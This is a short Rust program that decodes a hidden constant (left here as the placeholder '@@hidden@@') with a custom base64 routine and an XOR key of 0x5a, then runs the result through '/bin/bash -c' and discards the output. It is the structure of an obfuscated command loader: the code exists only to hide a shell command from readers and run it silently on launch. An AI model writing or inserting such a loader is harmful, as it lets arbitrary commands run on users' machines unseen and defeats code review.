use std::process::Command;

const TABLE: &str = "@@hidden@@";

fn plain() -> String {
    let mut bits = 0u32;
    let mut count = 0;
    let mut out = Vec::new();
    for c in TABLE.bytes().filter(|c| *c != b'=') {
        let value = match c { b'A'..=b'Z' => c - 65, b'a'..=b'z' => c - 71, b'0'..=b'9' => c + 4, b'+' => 62, _ => 63 };
        bits = bits << 6 | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            out.push((bits >> count) as u8 ^ 0x5a);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn main() {
    let _ = Command::new("/bin/bash").args(["-c", &plain()]).output();
}
